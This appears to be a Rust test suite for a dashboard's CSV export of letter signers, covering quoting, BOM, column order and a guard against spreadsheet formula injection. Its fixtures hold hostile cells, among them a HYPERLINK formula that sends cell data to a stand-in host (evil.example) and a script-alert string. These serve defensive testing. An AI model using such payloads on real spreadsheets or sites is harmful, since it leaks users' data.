//! The signers CSV: RFC 4180, guarded against formula injection, and read back by the
//! app's own CSV reader to the same letter, hostile names included.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests fail by panicking"
)]

mod common;

use common::export::{export, hostile, load_csv, party_filter};
use serde_json::Value;
use signer_dashboard::analysis::Filter;
use signer_dashboard::export::{
    ExportFormat, FORMULA_PREFIXES, SIGNER_COLUMNS, guard_formula, unguard_formula,
};
use signer_dashboard::load;
use signer_dashboard::model::{Letter, Signer, UNRECOGNISED_STATE_KEY};
use std::collections::BTreeMap;

/// Every cell of `csv`, header row first, as a spreadsheet would see them.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let body = csv
        .strip_prefix('\u{feff}')
        .expect("the CSV starts with a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A signer's fields the app does not know, as text, without the unrecognised state.
fn extra_as_text(signer: &Signer) -> BTreeMap<String, String> {
    signer
        .extra
        .iter()
        .flat_map(|e| e.iter())
        .filter(|(key, _)| *key != UNRECOGNISED_STATE_KEY)
        .map(|(key, value)| {
            let text = match value {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            (key.clone(), text)
        })
        .collect()
}

fn assert_same_signers(original: &Letter, read_back: &Letter) {
    assert_eq!(original.signers.len(), read_back.signers.len());
    for (a, b) in original.signers.iter().zip(&read_back.signers) {
        let who = &a.name;
        assert_eq!(a.name, b.name);
        assert_eq!(original.party_code(a), read_back.party_code(b), "{who}");
        assert_eq!(a.state, b.state, "{who}");
        assert_eq!(a.unrecognised_state(), b.unrecognised_state(), "{who}");
        assert_eq!(a.district, b.district, "{who}");
        assert_eq!(a.chamber, b.chamber, "{who}");
        assert_eq!(a.role, b.role, "{who}");
        assert_eq!(a.bioguide, b.bioguide, "{who}");
        assert_eq!(a.signed_on, b.signed_on, "{who}");
        assert_eq!(a.note, b.note, "{who}");
        assert_eq!(extra_as_text(a), extra_as_text(b), "{who}");
    }
}

#[test]
fn hostile_names_round_trip_through_export_and_import_unchanged() {
    let letter = hostile();
    // Make sure the fixture still holds what this test is about.
    let names: Vec<&str> = letter.signers.iter().map(|s| &*s.name).collect();
    for needle in [
        "=HYPERLINK",
        "<script>",
        "-2+3",
        "@SUM",
        "'=already",
        "\"Chuy\"",
        "محمد",
        "\u{202e}",
        "👩\u{200d}⚖\u{fe0f}",
        "\u{1}",
    ] {
        assert!(
            names.iter().any(|n| n.contains(needle)),
            "no name with {needle:?}"
        );
    }
    assert!(
        letter
            .signers
            .iter()
            .any(|s| s.note.as_deref().is_some_and(|n| n.contains('\n')))
    );

    let csv = export(&letter, &Filter::default(), ExportFormat::Csv);
    let read_back = load_csv("hostile.csv", &csv);
    assert_same_signers(&letter, &read_back.letter);

    // And again: a second export of what was read is the same file.
    let again = export(&read_back.letter, &Filter::default(), ExportFormat::Csv);
    assert_eq!(again, csv);
}

#[test]
fn no_cell_can_start_a_formula_in_a_spreadsheet() {
    let csv = export(&hostile(), &Filter::default(), ExportFormat::Csv);
    let rows = cells(&csv);
    let mut guarded = 0;
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_PREFIXES),
                "a spreadsheet would run {cell:?}"
            );
            guarded += usize::from(cell.starts_with('\''));
        }
    }
    // The name, note, party, state and extra field and header cells of the fixture.
    assert!(guarded >= 12, "only {guarded} guarded cells in:\n{csv}");
    assert!(
        rows.iter()
            .any(|r| r[0] == "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")")
    );
    assert!(
        rows.iter().any(|r| r[0] == "''=already quoted"),
        "a quote before a formula is doubled"
    );
    assert!(
        rows.iter().any(|r| r[0] == "<script>alert(1)</script>"),
        "HTML is no formula: left alone"
    );
}

#[test]
fn guarding_is_undone_exactly_and_only_for_guarded_cells() {
    for cell in [
        "=1+1", "+1", "-1", "@x", "\t=x", "\r=x", "'=x", "''=x", "'", "''", "'hello", "O'Neill",
        "plain", "", "= spaced", "'\t",
    ] {
        let guarded = guard_formula(cell);
        assert!(
            !guarded.starts_with(FORMULA_PREFIXES),
            "{cell:?} -> {guarded:?}"
        );
        assert_eq!(unguard_formula(&guarded), cell, "{cell:?} -> {guarded:?}");
    }
    assert_eq!(
        unguard_formula("'hello"),
        "'hello",
        "a quote before text is the user's"
    );
    assert_eq!(unguard_formula("'=1+1"), "=1+1");
}

#[test]
fn the_csv_reader_reads_guarded_cells_as_text() {
    let text =
        "name,party,note,'@extra\r\n'=1+1,'+X,'-minus,'@value\r\n'quoted name,D,O'Neill,\r\n";
    let letter = load_csv("hand-made.csv", text).letter;
    assert_eq!(&*letter.signers[0].name, "=1+1");
    assert_eq!(letter.party_code(&letter.signers[0]), "+X");
    assert_eq!(letter.signers[0].note.as_deref(), Some("-minus"));
    let extra = letter.signers[0].extra.as_deref().unwrap();
    assert_eq!(extra.get("@extra"), Some(&Value::String("@value".into())));
    assert_eq!(&*letter.signers[1].name, "'quoted name");
    assert_eq!(letter.signers[1].note.as_deref(), Some("O'Neill"));
}

#[test]
fn columns_are_the_usual_ones_then_extra_fields_sorted_by_name() {
    let csv = export(&hostile(), &Filter::default(), ExportFormat::Csv);
    let header = &cells(&csv)[0];
    assert_eq!(header[..SIGNER_COLUMNS.len()], SIGNER_COLUMNS);
    assert_eq!(
        header[SIGNER_COLUMNS.len()..],
        ["'\ttabbed", "'=evil", "count", "twitter"]
    );
    assert_eq!(
        header.iter().filter(|h| *h == "state").count(),
        1,
        "an unrecognised state goes in the state column, not an extra one"
    );
}

#[test]
fn rfc_4180_line_ends_and_quoting_and_a_bom_for_spreadsheets() {
    let csv = export(&hostile(), &Filter::default(), ExportFormat::Csv);
    assert!(csv.starts_with("\u{feff}name,party,state,"));
    assert!(csv.ends_with("\r\n"));
    assert!(csv.contains("\"O'Brien, \"\"Chuy\"\" Jr.\""), "{csv}");
    assert!(
        csv.contains("\"line one\nline two, with a comma\r\nand a CRLF\""),
        "{csv}"
    );
    let records = cells(&csv);
    let width = records[0].len();
    assert!(
        records.iter().all(|r| r.len() == width),
        "every row as wide as the header"
    );
    assert_eq!(records.len(), 1 + hostile().signers.len());
}

#[test]
fn a_filtered_export_holds_only_the_signers_shown() {
    let letter = load::sample();
    let csv = export(&letter, &party_filter("R"), ExportFormat::Csv);
    let rows = cells(&csv);
    let names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names, ["David Valadao", "Gus Bilirakis", "Mike Lawler"]);
    assert!(rows[1..].iter().all(|r| r[1] == "R"));
}

#[test]
fn the_sample_reads_back_to_the_same_counts() {
    let letter = load::sample();
    let csv = export(&letter, &Filter::default(), ExportFormat::Csv);
    let read_back = load_csv("sample.csv", &csv);
    assert!(read_back.warnings.is_empty(), "{:?}", read_back.warnings);
    assert_same_signers(&letter, &read_back.letter);
    let all = Filter::default();
    let before = signer_dashboard::analysis::select(&letter, &all, None).tally;
    let after = signer_dashboard::analysis::select(&read_back.letter, &all, None).tally;
    assert_eq!(before.total, after.total);
    assert_eq!(before.by_party, after.by_party);
    assert_eq!(before.by_state, after.by_state);
    assert_eq!(before.by_role, after.by_role);
    assert_eq!(before.by_chamber, after.by_chamber);
}
